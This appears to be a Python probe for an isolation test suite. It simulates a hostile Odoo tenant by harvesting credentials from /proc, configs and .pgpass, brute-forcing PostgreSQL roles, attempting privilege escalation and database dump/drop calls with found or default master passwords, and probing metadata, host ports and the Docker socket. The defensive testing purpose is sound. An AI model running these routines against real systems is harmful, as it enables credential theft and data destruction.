#!/usr/bin/env python3
"""Hostile-tenant probe (apps/worker/src/isolation/hostile-tenant.int.test.ts).

Runs inside a build's server container, as the Odoo user, with the environment it is started with
(Odoo's own, or the web shell's). Tries what a hostile addon of another tenant would try and prints
what worked as one JSON document; the suite decides what must fail and what must succeed (its
positive controls run through the very same functions, on the build's own data).

Python 3 standard library + psycopg2 only (both in the stand-in and the official Odoo image).
Only the targets given in the configuration are contacted: the build's own server and database
server, the other tenant's server address, the network gateways (the host), the link-local
address (TCP connect only, nothing sent) and a TEST-NET-3 address (never routed on the internet).
Drops aim at the other tenant's sacrificial database (`target.drop_db`), never its production.
Secrets it finds are reported as short SHA-256 fingerprints, never in clear.

Usage: probe.py <base64 JSON configuration> [--tty]
  --tty: the output goes through a terminal: print it base64-encoded between markers.
"""
import base64
import concurrent.futures
import errno
import hashlib
import json
import os
import re
import signal
import socket
import sys
import time

try:
    import psycopg2
except ImportError:  # reported, never fatal: the control then fails loudly in the suite
    psycopg2 = None

CONNECT_TIMEOUT = 3
TCP_TIMEOUT = 2.0
HTTP_TIMEOUT = 8.0
SECRET_TABLE = 'hostile_secret'


def fp(value):
    return hashlib.sha256(value.encode('utf-8', 'replace')).hexdigest()[:12] if value else None


def first_line(error):
    text = str(error).strip()
    return text.splitlines()[0][:200] if text else type(error).__name__


# -- identity ---------------------------------------------------------------------------------

def read_status():
    out = {}
    try:
        with open('/proc/self/status') as f:
            for line in f:
                key, _, value = line.partition(':')
                if key in ('CapInh', 'CapPrm', 'CapEff', 'CapBnd', 'CapAmb', 'NoNewPrivs', 'Seccomp'):
                    out[key] = value.strip()
    except OSError as e:
        out['error'] = first_line(e)
    return out


def read_first(paths):
    for p in paths:
        try:
            with open(p) as f:
                return {'path': p, 'value': f.read().strip()}
        except OSError:
            continue
    return None


def identity():
    return {
        'uid': os.getuid(), 'euid': os.geteuid(), 'gid': os.getgid(), 'groups': os.getgroups(),
        'status': read_status(),
        'pids_max': read_first(['/sys/fs/cgroup/pids.max', '/sys/fs/cgroup/pids/pids.max']),
        'memory_max': read_first(['/sys/fs/cgroup/memory.max', '/sys/fs/cgroup/memory/memory.limit_in_bytes']),
        'env_keys': sorted(os.environ),
    }


# -- credentials --------------------------------------------------------------------------------

PASSWORD_KEY = re.compile(r'(PASS|SECRET|TOKEN|PWD|KEY)', re.I)


class Harvest:
    def __init__(self):
        self.creds = []      # structured: host, port, user, password, source
        self.passwords = {}  # value -> source (password reuse candidates)
        self.masters = {}    # Odoo master passwords -> source
        self.users = {}      # role names seen -> source
        self.hosts = {}      # database hosts seen -> source

    def add_cred(self, source, host=None, port=None, user=None, password=None):
        if not user and not password:
            return
        port = int(port) if port and str(port).isdigit() else None
        c = {'source': source, 'host': host, 'port': port, 'user': user, 'password': password}
        if c not in self.creds:
            self.creds.append(c)
        if password:
            self.passwords.setdefault(password, source)
        if user:
            self.users.setdefault(user, source)
        if host:
            self.hosts.setdefault((host, port), source)

    def from_env(self, env, source):
        self.add_cred(source + ':HOST/USER', env.get('HOST'), env.get('PORT'), env.get('USER'), env.get('PASSWORD'))
        self.add_cred(source + ':PG*', env.get('PGHOST'), env.get('PGPORT'), env.get('PGUSER'), env.get('PGPASSWORD'))
        self.add_cred(source + ':DB_*', env.get('DB_HOST'), env.get('DB_PORT'), env.get('DB_USER'), env.get('DB_PASSWORD'))
        self.add_cred(source + ':POSTGRES_*', None, None, env.get('POSTGRES_USER') or env.get('POSTGRES_ROLE'),
                      env.get('POSTGRES_PASSWORD') or env.get('POSTGRES_ROLE_PASSWORD'))
        for k, v in env.items():
            if v and PASSWORD_KEY.search(k) and k not in ('PWD', 'OLDPWD') and len(v) < 512:
                self.passwords.setdefault(v, '%s:%s' % (source, k))

    def from_cmdline(self, argv, source):
        opts = {}
        i = 0
        while i < len(argv):
            a = argv[i]
            m = re.match(r'^--?(db_host|db_port|db_user|db_password|db-host|db-port|db-user|db-password|admin_passwd|r|w)(?:=(.*))?$', a)
            if m:
                key = m.group(1).replace('-', '_')
                if m.group(2) is not None:
                    opts[key] = m.group(2)
                elif i + 1 < len(argv):
                    opts[key] = argv[i + 1]
                    i += 1
            i += 1
        self.add_cred(source, opts.get('db_host'), opts.get('db_port'), opts.get('db_user') or opts.get('r'),
                      opts.get('db_password') or opts.get('w'))
        if opts.get('admin_passwd'):
            self.masters.setdefault(opts['admin_passwd'], source)

    def from_conf(self, path):
        try:
            with open(path) as f:
                text = f.read(65536)
        except OSError:
            return None
        values = {}
        for line in text.splitlines():
            m = re.match(r'^\s*([A-Za-z_]+)\s*=\s*(.*?)\s*$', line)
            if m:
                values[m.group(1)] = m.group(2)
        self.add_cred(path, values.get('db_host'), values.get('db_port'), values.get('db_user'), values.get('db_password'))
        if values.get('admin_passwd') and values['admin_passwd'] != 'False':
            self.masters.setdefault(values['admin_passwd'], path)
        return {'path': path, 'list_db': values.get('list_db'), 'has_admin_passwd': bool(values.get('admin_passwd')),
                'admin_passwd_is_admin': values.get('admin_passwd') == 'admin', 'keys': sorted(values)}

    def from_pgpass(self, path):
        try:
            with open(path) as f:
                for line in f:
                    parts = line.strip().split(':')
                    if len(parts) == 5 and not line.startswith('#'):
                        self.add_cred(path, parts[0], parts[1], parts[3], parts[4])
        except OSError:
            pass

    def report(self):
        return {
            'credentials': [{'source': c['source'], 'host': c['host'], 'port': c['port'], 'user': c['user'], 'password': fp(c['password'])} for c in self.creds],
            'passwords': [{'source': s, 'fp': fp(p)} for p, s in self.passwords.items()],
            'masters': [{'source': s, 'fp': fp(p)} for p, s in self.masters.items()],
            'users': sorted(self.users),
        }


def scan_files(h, roots, max_depth=3):
    """Small text files under the data dir and config folders that mention a password."""
    found = []
    pattern = re.compile(r'(db_password|admin_passwd|password)\s*[=:]\s*(\S+)', re.I)
    for root in roots:
        base_depth = root.rstrip('/').count('/')
        for dirpath, dirnames, filenames in os.walk(root, onerror=lambda e: None):
            if dirpath.count('/') - base_depth >= max_depth:
                dirnames[:] = []
            dirnames[:] = [d for d in dirnames if d not in ('filestore', 'sessions', 'addons')]
            for name in filenames:
                p = os.path.join(dirpath, name)
                try:
                    if os.path.getsize(p) > 65536:
                        continue
                    with open(p, errors='replace') as f:
                        text = f.read()
                except OSError:
                    continue
                for m in pattern.finditer(text):
                    h.passwords.setdefault(m.group(2).strip('"\''), p)
                    found.append(p)
    return sorted(set(found))


def harvest(cfg):
    h = Harvest()
    h.from_env(dict(os.environ), 'env')
    readable = {'environ': 0, 'cmdline': 0}
    for pid in sorted(os.listdir('/proc'), key=lambda s: (len(s), s)):
        if not pid.isdigit() or int(pid) == os.getpid():
            continue
        try:
            with open('/proc/%s/environ' % pid, 'rb') as f:
                raw = f.read()
            env = {}
            for item in raw.split(b'\0'):
                k, sep, v = item.partition(b'=')
                if sep:
                    env[k.decode('utf-8', 'replace')] = v.decode('utf-8', 'replace')
            h.from_env(env, '/proc/%s/environ' % pid)
            readable['environ'] += 1
        except OSError:
            pass
        try:
            with open('/proc/%s/cmdline' % pid, 'rb') as f:
                argv = [a.decode('utf-8', 'replace') for a in f.read().split(b'\0') if a]
            h.from_cmdline(argv, '/proc/%s/cmdline' % pid)
            readable['cmdline'] += 1
        except OSError:
            pass
    confs = []
    for path in sorted({os.environ.get('ODOO_RC') or '/etc/odoo/odoo.conf', '/etc/odoo/odoo.conf', os.path.expanduser('~/.odoorc'), os.path.expanduser('~/.openerp_serverrc')}):
        c = h.from_conf(path)
        if c:
            confs.append(c)
    for path in (os.path.expanduser('~/.pgpass'), '/var/lib/odoo/.pgpass', os.environ.get('PGPASSFILE') or ''):
        if path:
            h.from_pgpass(path)
    files = scan_files(h, ['/var/lib/odoo', '/etc/odoo'])
    h.masters.setdefault('admin', 'Odoo default master password')
    return h, {'proc_readable': readable, 'configs': confs, 'files_with_passwords': files}


# -- PostgreSQL ----------------------------------------------------------------------------------

def pg_connect(host, port, user, password, db):
    return psycopg2.connect(host=host, port=port, user=user, password=password or '', dbname=db,
                            connect_timeout=CONNECT_TIMEOUT, application_name='hostile-probe')


def pg_try(host, port, user, password, db, pw_source, queries):
    """Connects; on success runs `queries` (name -> SQL), each in its own transaction."""
    rec = {'host': host, 'port': port, 'user': user, 'password_from': pw_source, 'db': db, 'ok': False}
    try:
        conn = pg_connect(host, port, user, password, db)
    except Exception as e:  # psycopg2.OperationalError mostly
        rec['error'] = first_line(e)
        rec['code'] = getattr(e, 'pgcode', None)
        return rec
    rec['ok'] = True
    rec['results'] = {}
    try:
        conn.autocommit = True
        for name, sql in queries:
            try:
                with conn.cursor() as cr:
                    cr.execute(sql)
                    rows = cr.fetchall() if cr.description else []
                rec['results'][name] = {'ok': True, 'rows': [[str(v) for v in r] for r in rows[:200]]}
            except Exception as e:
                rec['results'][name] = {'ok': False, 'code': getattr(e, 'pgcode', None), 'error': first_line(e)}
    finally:
        conn.close()
    return rec


def postgres_probe(cfg, h):
    if psycopg2 is None:
        return {'error': 'psycopg2 is not importable'}
    own_db = cfg['own']['db']
    target_db = cfg['target']['db']
    created = cfg['own']['create_database_name']
    hosts = list(h.hosts) or []
    default_host = (cfg['pg']['host'], cfg['pg']['port'])
    if default_host not in hosts:
        hosts.append(default_host)
    read_secret = ('secret', 'SELECT value FROM %s ORDER BY value' % SECRET_TABLE)
    who = ('whoami', 'SELECT current_user, current_database()')
    base_queries = [who, read_secret, ('databases', 'SELECT datname FROM pg_database ORDER BY 1')]
    # Ownership, not a connection, is what ALTER/DROP DATABASE need: harmless change, undone at once.
    own_database_changes = [
        ('alter_target_database', "ALTER DATABASE \"%s\" SET application_name = 'hostile-probe'" % target_db),
        ('reset_target_database', 'ALTER DATABASE "%s" RESET application_name' % target_db),
        # The other tenant's sacrificial database (owned like its real ones): the one drops aim at.
        ('drop_decoy', 'DROP DATABASE "%s"' % cfg['target']['drop_db']),
    ]
    own_queries = base_queries + [
        ('privileges', 'SELECT rolsuper, rolcreatedb, rolcreaterole, rolreplication, rolbypassrls FROM pg_roles WHERE rolname = current_user'),
        ('create_database', 'CREATE DATABASE "%s"' % created),
        ('drop_created_database', 'DROP DATABASE IF EXISTS "%s"' % created),
        ('create_role', 'CREATE ROLE hostile_probe_role LOGIN'),
        ('alter_self_createdb', 'ALTER ROLE CURRENT_USER CREATEDB'),
        ('read_server_file', "SELECT length(pg_read_file('/etc/hostname'))"),
        ('copy_to_program', "COPY (SELECT 1) TO PROGRAM 'true'"),
        ('create_extension_dblink', 'CREATE EXTENSION IF NOT EXISTS dblink'),
        ('set_role_target', 'SET ROLE "%s"' % target_db),
        ('reset_role_1', 'RESET ROLE'),
        ('set_role_postgres', 'SET ROLE postgres'),
        ('reset_role_2', 'RESET ROLE'),
    ] + own_database_changes + [
        ('member_of', 'SELECT b.rolname FROM pg_auth_members m JOIN pg_roles b ON b.oid = m.roleid JOIN pg_roles r ON r.oid = m.member WHERE r.rolname = current_user'),
    ]
    maintenance_queries = base_queries + [
        ('create_table', 'CREATE TABLE public.hostile_probe_planted (x int)'),
        ('drop_planted', 'DROP TABLE IF EXISTS public.hostile_probe_planted'),
        ('create_function', 'CREATE FUNCTION public.hostile_probe_fn() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$'),
        ('drop_function', 'DROP FUNCTION IF EXISTS public.hostile_probe_fn()'),
    ] + own_database_changes
    dbs = [own_db, target_db, 'template1', 'postgres']
    jobs = []
    # Every structured credential, on every host it could be meant for, against every database.
    for c in h.creds:
        if not c['user']:
            continue
        for host, port in ([(c['host'], c['port'] or default_host[1])] if c['host'] else hosts):
            for db in dbs:
                jobs.append((host, port, c['user'], c['password'], db, c['source']))
    # Well-known and guessed role names with every password found (and none).
    pw_candidates = list(h.passwords.items())[:12] + [('', 'empty'), ('postgres', 'guess'), ('odoo', 'guess')]
    for role in cfg['pg']['roles']:
        for pw, source in pw_candidates:
            for db in (target_db, 'postgres'):
                jobs.append((default_host[0], default_host[1], role, pw, db, source))
    seen = set()
    unique = []
    for j in jobs:
        key = (j[0], j[1], j[2], j[3], j[4])
        if key not in seen:
            seen.add(key)
            unique.append(j)

    def run(job):
        host, port, user, pw, db, source = job
        queries = own_queries if db == own_db else maintenance_queries if db == 'postgres' else base_queries
        return pg_try(host, port, user, pw, db, source, queries)

    with concurrent.futures.ThreadPoolExecutor(max_workers=8) as ex:
        attempts = list(ex.map(run, unique))
    return {'attempts': attempts}


# -- Odoo's database manager ------------------------------------------------------------------------

def http_request(host, port, method, path, body=None, content_type=None, timeout=HTTP_TIMEOUT, host_header=None):
    import http.client
    rec = {'host': host, 'port': port, 'method': method, 'path': path}
    try:
        conn = http.client.HTTPConnection(host, port, timeout=timeout)
        headers = {'Connection': 'close'}
        if host_header:
            headers['Host'] = host_header
        if content_type:
            headers['Content-Type'] = content_type
        conn.request(method, path, body=body, headers=headers)
        resp = conn.getresponse()
        data = resp.read(4 * 1024 * 1024)
        conn.close()
        rec['status'] = resp.status
        rec['content_type'] = resp.getheader('Content-Type')
        rec['length'] = len(data)
        rec['body'] = data
    except Exception as e:
        rec['error'] = first_line(e)
    return rec


def classify(rec, cfg):
    """Reduces an HTTP answer to what the suite asserts on (never the body itself)."""
    data = rec.pop('body', b'') or b''
    text = data.decode('utf-8', 'replace')
    out = dict(rec)
    out['is_zip'] = data[:2] == b'PK'
    out['is_pg_dump'] = data[:5] == b'PGDMP' or 'PostgreSQL database dump' in text
    out['mentions_target_db'] = bool(re.search(r'(?<![\w-])%s(?![\w-])' % re.escape(cfg['target']['db']), text))
    out['mentions_target_secret'] = cfg['target']['secret_marker'] in text
    out['mentions_own_db'] = cfg['own']['db'] in text
    if 'json' in (rec.get('content_type') or ''):
        try:
            doc = json.loads(text)
            out['json_has_result'] = isinstance(doc, dict) and 'result' in doc
            err = doc.get('error') if isinstance(doc, dict) else None
            if err:
                data_ = err.get('data') or {}
                out['json_error'] = '%s %s %s' % (err.get('message'), data_.get('name'), data_.get('message'))
            res = doc.get('result') if isinstance(doc, dict) else None
            out['json_result_kind'] = type(res).__name__
            if isinstance(res, list):
                out['json_result_list'] = [str(x)[:80] for x in res[:50]]
            if isinstance(res, dict) and 'server_version' in res:
                out['server_version'] = res['server_version']
        except ValueError:
            pass
    if '<methodResponse' in text:
        out['xmlrpc_fault'] = '<fault>' in text
        out['xmlrpc_has_params'] = '<params>' in text
    out['snippet'] = re.sub(r'\s+', ' ', text[:160]) if not out['is_zip'] else '(zip)'
    return out


def jsonrpc_body(service, method, args):
    return json.dumps({'jsonrpc': '2.0', 'method': 'call', 'id': 1, 'params': {'service': service, 'method': method, 'args': args}})


def xmlrpc_body(method, args):
    params = ''.join('<param><value><string>%s</string></value></param>' % a for a in args)
    return "<?xml version='1.0'?><methodCall><methodName>%s</methodName><params>%s</params></methodCall>" % (method, params)


def odoo_probe(cfg, h):
    from urllib.parse import urlencode
    target = cfg['target']['db']
    decoy = cfg['target']['drop_db']
    masters = list(h.masters.items())
    servers = [('loopback', '127.0.0.1', cfg['own']['http_port'])]
    if cfg['own'].get('ip'):
        servers.append(('own-ip', cfg['own']['ip'], cfg['own']['http_port']))
    requests = [
        ('health', 'GET', '/web/health', None, None),
        ('version_info', 'POST', '/web/webclient/version_info', json.dumps({'jsonrpc': '2.0', 'method': 'call', 'id': 1, 'params': {}}), 'application/json'),
        ('jsonrpc common.version', 'POST', '/jsonrpc', jsonrpc_body('common', 'version', []), 'application/json'),
        ('jsonrpc db.list', 'POST', '/jsonrpc', jsonrpc_body('db', 'list', []), 'application/json'),
        ('web/database/list', 'POST', '/web/database/list', json.dumps({'jsonrpc': '2.0', 'method': 'call', 'id': 1, 'params': {}}), 'application/json'),
        ('web/database/manager', 'GET', '/web/database/manager', None, None),
        ('web/database/selector', 'GET', '/web/database/selector', None, None),
        ('xmlrpc db.list', 'POST', '/xmlrpc/2/db', xmlrpc_body('list', []), 'text/xml'),
    ]
    for pw, source in masters:
        tag = 'master from %s' % source
        requests += [
            ('jsonrpc db.dump (%s)' % tag, 'POST', '/jsonrpc', jsonrpc_body('db', 'dump', [pw, target, 'zip']), 'application/json'),
            ('jsonrpc db.drop (%s)' % tag, 'POST', '/jsonrpc', jsonrpc_body('db', 'drop', [pw, decoy]), 'application/json'),
            ('xmlrpc db.dump (%s)' % tag, 'POST', '/xmlrpc/2/db', xmlrpc_body('dump', [pw, target, 'zip']), 'text/xml'),
            ('web/database/backup (%s)' % tag, 'POST', '/web/database/backup', urlencode({'master_pwd': pw, 'name': target, 'backup_format': 'zip'}), 'application/x-www-form-urlencoded'),
            ('web/database/drop (%s)' % tag, 'POST', '/web/database/drop', urlencode({'master_pwd': pw, 'name': decoy}), 'application/x-www-form-urlencoded'),
        ]
    jobs = [(label, host, port, r) for label, host, port in servers for r in requests]

    def run(job):
        label, host, port, (name, method, path, body, ctype) = job
        rec = http_request(host, port, method, path, body, ctype)
        out = classify(rec, cfg)
        out['via'] = label
        out['name'] = name
        return out

    with concurrent.futures.ThreadPoolExecutor(max_workers=6) as ex:
        return list(ex.map(run, jobs))


# -- network ----------------------------------------------------------------------------------------

def tcp(host, port, timeout=TCP_TIMEOUT):
    started = time.time()
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(timeout)
    try:
        s.connect((host, int(port)))
        result = 'open'
    except socket.timeout:
        result = 'timeout'
    except ConnectionRefusedError:
        result = 'refused'
    except OSError as e:
        result = {errno.ENETUNREACH: 'network-unreachable', errno.EHOSTUNREACH: 'host-unreachable'}.get(e.errno, 'error:%s' % e.errno)
    finally:
        s.close()
    return result, round(time.time() - started, 2)


def routes():
    out = []
    try:
        with open('/proc/net/route') as f:
            next(f)
            for line in f:
                parts = line.split()
                dest = socket.inet_ntoa(bytes.fromhex(parts[1])[::-1])
                gw = socket.inet_ntoa(bytes.fromhex(parts[2])[::-1])
                mask = socket.inet_ntoa(bytes.fromhex(parts[7])[::-1])
                out.append({'iface': parts[0], 'dest': dest, 'gateway': gw, 'mask': mask})
    except (OSError, StopIteration, ValueError, IndexError):
        pass
    return out


def docker_socket():
    out = {}
    for path in ('/var/run/docker.sock', '/run/docker.sock'):
        rec = {'exists': os.path.exists(path)}
        if rec['exists']:
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            s.settimeout(TCP_TIMEOUT)
            try:
                s.connect(path)
                s.sendall(b'GET /version HTTP/1.0\r\n\r\n')
                rec['answer'] = s.recv(200).decode('utf-8', 'replace').splitlines()[0]
                rec['connected'] = True
            except OSError as e:
                rec['connected'] = False
                rec['error'] = first_line(e)
            finally:
                s.close()
        out[path] = rec
    return out


def network_probe(cfg):
    own = cfg['own']
    targets = [('own server (ip)', own['ip'], own['http_port'], 'control')] if own.get('ip') else []
    targets += [('own server (loopback)', '127.0.0.1', own['http_port'], 'control'),
                ('database server', cfg['pg']['host'], cfg['pg']['port'], 'control')]
    for ip in cfg['target'].get('server_ips', []):
        for port in (8069, 8072):
            targets.append(('target server %s:%s' % (ip, port), ip, port, 'attack'))
    for gw in cfg['host']['addresses']:
        for name, port in cfg['host']['ports'].items():
            targets.append(('host %s via %s' % (name, gw), gw, port, 'attack'))
    targets.append(('link-local metadata', '169.254.169.254', 80, 'attack'))
    # TEST-NET-3 (RFC 5737): reserved for documentation, never routed to anyone.
    targets.append(('internet (TEST-NET-3)', '203.0.113.1', 80, 'attack'))

    def run(t):
        name, host, port, kind = t
        result, seconds = tcp(host, port)
        return {'name': name, 'host': host, 'port': port, 'kind': kind, 'result': result, 'seconds': seconds}

    with concurrent.futures.ThreadPoolExecutor(max_workers=16) as ex:
        tcp_results = list(ex.map(run, targets))
    # What a bypass of the proxy would fetch from the other tenant's server (where TCP got through).
    fetched = []
    for t in tcp_results:
        if t['name'].startswith('target server') and t['port'] == 8069 and t['result'] == 'open':
            for path in ('/web/health', '/web/login'):
                rec = classify(http_request(t['host'], 8069, 'GET', path, timeout=TCP_TIMEOUT), cfg)
                rec.update({'name': 'target %s %s' % (t['host'], path)})
                fetched.append(rec)
    return {'tcp': tcp_results, 'routes': routes(), 'docker_socket': docker_socket(), 'target_http': fetched}


# -- processes ---------------------------------------------------------------------------------------

def fork_probe(cfg):
    """Spawns up to N sleeping children (never more), counts them, then kills them all."""
    n = int(cfg['fork']['max'])
    pids = []
    error = None
    started = time.time()
    for _ in range(n):
        try:
            pids.append(os.posix_spawn('/bin/sleep', ['sleep', '120'], {}))
        except OSError as e:
            error = '%s (errno %s)' % (first_line(e), e.errno)
            break
    spawned = len(pids)
    for pid in pids:
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    for pid in pids:
        try:
            os.waitpid(pid, 0)
        except OSError:
            pass
    after = None
    try:
        pid = os.posix_spawn('/bin/true', ['true'], {})
        os.waitpid(pid, 0)
        after = 'ok'
    except OSError as e:
        after = first_line(e)
    return {'max': n, 'spawned': spawned, 'error': error, 'spawn_after_cleanup': after, 'seconds': round(time.time() - started, 2)}


# -- main ----------------------------------------------------------------------------------------------

def main():
    cfg = json.loads(base64.b64decode(sys.argv[1]))
    tty = '--tty' in sys.argv[2:]
    report = {'started': time.time(), 'errors': {}, 'timings': {}}

    def section(name, fn, *args):
        started = time.time()
        try:
            report[name] = fn(*args)
        except Exception as e:  # a broken section is reported, the others still run
            report['errors'][name] = '%s: %s' % (type(e).__name__, first_line(e))
        report['timings'][name] = round(time.time() - started, 2)

    wanted = set(cfg.get('sections') or ['postgres', 'odoo', 'network', 'fork'])
    section('identity', identity)
    h = None
    started = time.time()
    try:
        h, extra = harvest(cfg)
        report['harvest'] = dict(h.report(), **extra)
    except Exception as e:
        report['errors']['harvest'] = '%s: %s' % (type(e).__name__, first_line(e))
    report['timings']['harvest'] = round(time.time() - started, 2)
    if h is not None and 'postgres' in wanted:
        section('postgres', postgres_probe, cfg, h)
    if h is not None and 'odoo' in wanted:
        section('odoo', odoo_probe, cfg, h)
    if 'network' in wanted:
        section('network', network_probe, cfg)
    if 'fork' in wanted and cfg.get('fork', {}).get('max'):
        section('fork', fork_probe, cfg)
    report['seconds'] = round(time.time() - report.pop('started'), 2)
    text = json.dumps(report)
    if tty:
        sys.stdout.write('\n<<HOSTILE-PROBE:%s:END>>\n' % base64.b64encode(text.encode()).decode())
    else:
        sys.stdout.write(text + '\n')
    sys.stdout.flush()


if __name__ == '__main__':
    main()
